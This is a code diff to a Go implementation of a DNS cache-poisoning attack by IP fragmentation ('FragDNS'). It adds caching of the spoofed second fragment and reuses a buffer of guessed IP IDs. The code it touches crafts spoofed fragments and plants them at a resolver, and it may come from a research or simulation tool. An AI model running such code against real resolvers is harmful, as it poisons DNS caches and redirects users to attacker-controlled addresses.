@@ -60,6 +60,30 @@ type FragDNS struct {
 	// MaxIterations bounds trigger attempts.
 	MaxIterations int
 	CheckSuccess  func() bool
+
+	// Per-run scratch: the crafted second fragment depends only on
+	// (template, mtu), both fixed once the PTB lands, so it is crafted
+	// once and re-sent every iteration (SendRawIP copies the payload).
+	// craftedTmpl remembers which template the cache was built from.
+	// idsBuf is the reused IPID-guess list.
+	craftedTmpl []byte
+	craftedMTU  int
+	craftedFrag []byte
+	craftedOff  int
+	craftedOK   bool
+	idsBuf      []uint16
+}
+
+// craftCached returns CraftSecondFragment(template, mtu, a.SpoofAddr),
+// recomputing only when template or mtu changed since the last call.
+func (a *FragDNS) craftCached(template []byte, mtu int) ([]byte, int, bool) {
+	same := a.craftedMTU == mtu && len(a.craftedTmpl) == len(template) &&
+		(len(template) == 0 || &a.craftedTmpl[0] == &template[0])
+	if !same {
+		a.craftedFrag, a.craftedOff, a.craftedOK = CraftSecondFragment(template, mtu, a.SpoofAddr)
+		a.craftedTmpl, a.craftedMTU = template, mtu
+	}
+	return a.craftedFrag, a.craftedOff, a.craftedOK
 }
 
 // Run executes the attack.
@@ -186,11 +210,11 @@ func (a *FragDNS) plantFragments(template []byte) {
 	if ns != nil {
 		mtu = ns.PMTUTo(a.ResolverAddr)
 	}
-	frag2, fragOff, ok := CraftSecondFragment(template, mtu, a.SpoofAddr)
+	frag2, fragOff, ok := a.craftCached(template, mtu)
 	if !ok {
 		return
 	}
-	var ids []uint16
+	ids := a.idsBuf[:0]
 	if a.PredictIPID {
 		base, ok := a.probeIPID()
 		if !ok {
@@ -205,6 +229,7 @@ func (a *FragDNS) plantFragments(template []byte) {
 			ids = append(ids, uint16(rng.Uint32()))
 		}
 	}
+	a.idsBuf = ids
 	for _, id := range ids {
 		ipFrag := &packet.IPv4{
 			ID: id, MF: false, FragOff: uint16(fragOff / 8), TTL: 64,
